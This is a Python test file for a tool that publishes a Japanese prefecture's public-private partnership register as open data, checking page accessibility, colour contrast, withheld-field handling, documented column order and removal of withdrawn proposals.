        node = Node(tag, dict(attrs), self.current)
        self.current.children.append(node)
        if tag not in VOID_TAGS:
            self.current = node

    def handle_endtag(self, tag: str) -> None:
        if self.current.tag != tag:
            self.errors.append(f"</{tag}> closes <{self.current.tag}>")
            return
        assert self.current.parent is not None
        self.current = self.current.parent

    def handle_data(self, data: str) -> None:
        self.current.children.append(data)


def parse_html(text: str) -> Node:
    builder = TreeBuilder()
    builder.feed(text)
    builder.close()
    assert builder.errors == []
    assert builder.current is builder.root, "unclosed elements"
    return builder.root


def test_page_structure_is_accessible(small_result: Any) -> None:
    html = (small_result.out_dir / HTML_NAME).read_text(encoding="utf-8")
    assert html.startswith("<!DOCTYPE html>")
    root = parse_html(html)
    [page] = root.find_all("html")
    assert page.attrs.get("lang") == "ja"
    assert root.find_all("title")[0].text().strip()
    assert len(root.find_all("h1")) == 1
    assert not root.find_all("script") and not root.find_all("link") and not root.find_all("img")
    assert all("src" not in n.attrs for n in root.walk())  # one self-contained file

    tables = root.find_all("table")
    assert len(tables) == 2 + 3 + 1  # two 年度 lists, three count tables, the 交流
    for table in tables:
        first = table.elements()[0]
        assert first.tag == "caption" and first.text().strip(), "each table starts with its caption"
        assert len(table.find_all("caption")) == 1
        assert table.find_all("thead") and table.find_all("tbody")
        for th in table.find_all("th"):
            assert th.attrs.get("scope") in ("col", "row"), th.text()
        for cell in table.find_all("th") + table.find_all("td"):
            assert "colspan" not in cell.attrs and "rowspan" not in cell.attrs
        for row in table.find_all("tbody")[0].find_all("tr"):
            assert row.elements()[0].tag == "th" and row.elements()[0].attrs["scope"] == "row"
        header_count = len(table.find_all("thead")[0].find_all("th"))
        assert all(len(r.elements()) == header_count for r in table.find_all("tr"))

    # Each chart is an image with a text alternative pointing to the table that follows it,
    # and that table holds the same labels and numbers.
    charts = [n for n in root.walk() if n.has_class("chart")]
    assert len(charts) == 3
    for chart in charts:
        assert chart.attrs.get("role") == "img" or chart.attrs.get("aria-hidden") == "true"
        label = chart.attrs.get("aria-label") or ""
        siblings = [c for c in chart.parent.elements()] if chart.parent else []
        table = siblings[siblings.index(chart) + 1]
        assert table.tag == "table"
        caption = table.find_all("caption")[0].text()
        assert f"表「{caption}」" in label
        bars = [tuple(s.text() for s in row.elements() if not s.has_class("bar-track")) for row in chart.elements()]
        body = table.find_all("tbody")[0]
        cells = [(r.elements()[0].text(), r.elements()[1].text() + "件") for r in body.find_all("tr")]
        assert bars == cells and bars

    # State badges say their state in words, not only by colour.
    for badge in (n for n in root.walk() if n.has_class("badge")):
        assert badge.text().strip() in Status.PUBLISHED
    # Protected values are announced in words too.
    assert any(n.has_class("protected") and n.text() == "非公表" for n in root.walk())


def _luminance(hex_colour: str) -> float:
    def channel(c: int) -> float:
        s = c / 255
        return s / 12.92 if s <= 0.03928 else ((s + 0.055) / 1.055) ** 2.4

    r, g, b = (int(hex_colour[i : i + 2], 16) for i in (1, 3, 5))
    return 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b)


def contrast(a: str, b: str) -> float:
    hi, lo = sorted((_luminance(a), _luminance(b)), reverse=True)
    return (hi + 0.05) / (lo + 0.05)


def test_colour_pairs_in_the_page_have_enough_contrast(small_result: Any) -> None:
    html = (small_result.out_dir / HTML_NAME).read_text(encoding="utf-8")
    css = re.search(r"<style>(.*?)</style>", html, re.S)
    assert css is not None
    rules = re.findall(r"([^{}]+)\{([^}]*)\}", re.sub(r"/\*.*?\*/", "", css.group(1), flags=re.S))
    checked = 0
    for selector, body in rules:
        fg = re.search(r"(?<![-\w])color:\s*(#[0-9a-fA-F]{6})", body)
        bg = re.search(r"background-color:\s*(#[0-9a-fA-F]{6})", body)
        if fg and bg:
            assert contrast(fg.group(1), bg.group(1)) >= 4.5, selector.strip()
            checked += 1
    assert checked >= 8
    # Text colours set without a background sit on the page's white.
    for selector, body in rules:
        fg = re.search(r"(?<![-\w])color:\s*(#[0-9a-fA-F]{6})", body)
        if fg and "background-color" not in body:
            assert contrast(fg.group(1), "#ffffff") >= 4.5, selector.strip()
    # The bars (graphics, WCAG 1.4.11) stand out from their track.
    bar = re.search(r"\.bar \{[^}]*background-color:\s*(#\w{6})", css.group(1))
    track = re.search(r"\.bar-track \{[^}]*background-color:\s*(#\w{6})", css.group(1))
    assert bar and track and contrast(bar.group(1), track.group(1)) >= 3


def test_empty_register_gives_a_page_that_says_so(tmp_path: Path) -> None:
    result = publish(make_config(tmp_path), make_store([proposal("R7-0001", 公表=Publication.NO)]))
    html = (result.out_dir / HTML_NAME).read_text(encoding="utf-8")
    parse_html(html)
    assert "公表している取組はまだありません。" in html
    assert read_csv(result.out_dir / CSV_NAME) == [list(OUTPUT_COLUMNS)]
    assert result.withheld == 1


def test_register_without_the_protection_column_publishes_nothing(tmp_path: Path) -> None:
    store = make_store([proposal("R7-0001")])
    table = store.books[None][PROPOSALS].grid
    column = table[0].index("アイデア保護")
    for row in table:
        del row[column]
    with pytest.raises(StoreError, match="列「アイデア保護」がないため"):
        publish(make_config(tmp_path), store)
    assert not (tmp_path / "publish").exists()


# ---------------------------------------------------------------- the open-data standard (docs/opendata.md)
DOCS = Path(__file__).resolve().parents[1] / "docs" / "opendata.md"


def documented_columns(file_name: str) -> list[str]:
    """The 項目名 column of the table under the heading that names ``file_name`` in docs/opendata.md."""
    text = DOCS.read_text(encoding="utf-8")
    section = text.split(f"## {file_name}", 1)[1].split("\n## ", 1)[0]
    return [m.group(1) for m in re.finditer(r"^\|\s*\d+\s*\|\s*([^|]+?)\s*\|", section, re.M)]


@pytest.mark.parametrize(("csv_name", "json_name"), [(CSV_NAME, JSON_NAME), (EXCHANGE_CSV_NAME, EXCHANGE_JSON_NAME)])
def test_files_follow_the_documented_open_data_columns(small_result: Any, csv_name: str, json_name: str) -> None:
    documented = documented_columns(csv_name)
    assert documented == list(OUTPUT_COLUMNS if csv_name == CSV_NAME else EXCHANGE_COLUMNS)
    assert documented[:3] == ["全国地方公共団体コード", "ID", "地方公共団体名"]
    header, *rows = read_csv(small_result.out_dir / csv_name)
    assert header == documented
    assert rows and all(r[0] == "080004" and r[2] == "茨城県" for r in rows)
    data = json.loads((small_result.out_dir / json_name).read_text(encoding="utf-8"))
    assert data["columns"] == documented
    assert all(list(r) == documented for r in data["rows"])  # keys in `columns` order, not sorted
    wb = openpyxl.load_workbook(small_result.out_dir / XLSX_NAME)
    sheet = "連携一覧" if csv_name == CSV_NAME else "交流一覧"
    assert [c.value for c in wb[sheet][1]] == documented
    date_column = documented.index("日付" if csv_name == CSV_NAME else "開催日")
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", r[date_column]) for r in rows)


def test_withheld_fields_and_fiscal_years_read_the_same_in_every_format(small_result: Any) -> None:
    out = small_result.out_dir
    csv_rows = {r[1]: r for r in read_csv(out / CSV_NAME)[1:]}
    json_rows = {r["ID"]: r for r in json.loads((out / JSON_NAME).read_text(encoding="utf-8"))["rows"]}
    ws = openpyxl.load_workbook(out / XLSX_NAME)["連携一覧"]
    xlsx_rows = {r[1]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    fields = OUTPUT_COLUMNS.index("連携分野")
    outline = OUTPUT_COLUMNS.index("概要")
    # R6-0002 protects 連携分野, R7-0001 its 概要.
    assert csv_rows["R6-0002"][fields] == json_rows["R6-0002"]["連携分野"] == xlsx_rows["R6-0002"][fields] == "非公表"
    assert csv_rows["R7-0001"][outline] == json_rows["R7-0001"]["概要"] == xlsx_rows["R7-0001"][outline] == "非公表"
    html = (out / HTML_NAME).read_text(encoding="utf-8")
    assert html.count('<span class="protected">非公表</span>') == 4  # 2 取組 + 2 fields of one 交流
    for pid in csv_rows:
        assert csv_rows[pid][3] == json_rows[pid]["年度"] == xlsx_rows[pid][3]
        assert f'<h3 id="list-{pid[:2]}">{csv_rows[pid][3]}</h3>' in html
    data = json.loads((out / JSON_NAME).read_text(encoding="utf-8"))
    assert data["fiscal_year"] == [2024, 2025] and data["fiscal_year_label"] == "令和6年度〜令和7年度"


def test_page_and_json_carry_the_update_day_contact_and_licence(tmp_path: Path) -> None:
    config = make_config(tmp_path)
    config.publish.updated = "令和7年10月1日"
    config.publish.contact = "茨城県 公民連携デスク"
    config.publish.contact_phone = "029-301-2523"
    config.publish.contact_email = "renkei@pref.example.jp"
    config.publish.terms_url = "https://www.pref.example.jp/terms.html"
    result = publish(config, small_register(), today=PUBLISH_DAY)
    html = (result.out_dir / HTML_NAME).read_text(encoding="utf-8")
    assert '更新日: <time datetime="2025-10-01">令和7年10月1日</time>' in html
    assert "電話: 029-301-2523" in html and 'href="mailto:renkei@pref.example.jp"' in html
    assert "クリエイティブ・コモンズ 表示 4.0 国際（CC BY 4.0）</a>の下に提供しています" in html
    assert 'href="https://www.pref.example.jp/terms.html"' in html
    for name in (JSON_NAME, EXCHANGE_JSON_NAME):
        data = json.loads((result.out_dir / name).read_text(encoding="utf-8"))
        assert data["updated"] == "2025-10-01"
        assert data["contact"]["name"] == "茨城県 公民連携デスク"
        assert data["license"]["url"] == "https://creativecommons.org/licenses/by/4.0/legalcode.ja"


def test_page_has_a_card_layout_for_phones_and_bars_in_forced_colours(small_result: Any) -> None:
    html = (small_result.out_dir / HTML_NAME).read_text(encoding="utf-8")
    css = re.search(r"<style>(.*?)</style>", html, re.S)
    assert css is not None
    narrow = re.search(r"@media \(max-width: 600px\) \{(.*?)\n\}", css.group(1), re.S)
    assert narrow and "table.cards tr" in narrow.group(1) and "attr(data-label)" in narrow.group(1)
    forced = re.search(r"@media \(forced-colors: active\) \{(.*?)\n\}", css.group(1), re.S)
    assert forced and re.search(r"\.bar \{[^}]*background-color: CanvasText", forced.group(1))
    root = parse_html(html)
    for table in (t for t in root.find_all("table") if t.has_class("cards")):
        headers = [th.text() for th in table.find_all("thead")[0].find_all("th")]
        for tr in table.find_all("tbody")[0].find_all("tr"):
            labels = [td.attrs.get("data-label") for td in tr.elements()[1:]]
            assert labels == headers[1:]


def test_a_withdrawn_proposal_leaves_every_folder_the_tool_wrote(tmp_path: Path) -> None:
    config = make_config(tmp_path)
    rows = [proposal("R7-0001", 公表日=date(2025, 5, 1)), proposal("R7-0002", 公表日=date(2025, 5, 2))]
    publish(config, make_store(rows), fiscal_year=2025)  # publish/R7
    publish(config, make_store(rows))  # publish/
    desk_folder = tmp_path / "publish" / "R7_控え"  # the desk's own copy: not the tool's to touch
    desk_folder.mkdir()
    (desk_folder / CSV_NAME).write_bytes((tmp_path / "publish" / "R7" / CSV_NAME).read_bytes())

    # R7-0002 is set to 公表=不可; only the all-years page is asked for, yet R7 is rewritten too
    withdrawn = [rows[0], {**rows[1], "公表": "不可"}]
    result = publish(config, make_store(withdrawn))
    assert result.refreshed == [tmp_path / "publish" / "R7"]
    for folder in (tmp_path / "publish", tmp_path / "publish" / "R7"):
        for name in (HTML_NAME, CSV_NAME, JSON_NAME):
            text = (folder / name).read_text(encoding="utf-8-sig")
            assert "R7-0001" in text and "R7-0002" not in text, (folder, name)
        cells = [
            c for row in openpyxl.load_workbook(folder / XLSX_NAME).active.iter_rows(values_only=True) for c in row
        ]
        assert "R7-0001" in cells and "R7-0002" not in cells
    assert "R7-0002" in (desk_folder / CSV_NAME).read_text(encoding="utf-8-sig")

    # and the other way round: asking for one 年度 rewrites the all-years page
    gone = [{**rows[0], "ステータス": Status.FAILED}]
    again = publish(config, make_store(gone), fiscal_year=2025)
    assert again.refreshed == [tmp_path / "publish"]
    assert "R7-0001" not in (tmp_path / "publish" / CSV_NAME).read_text(encoding="utf-8-sig")
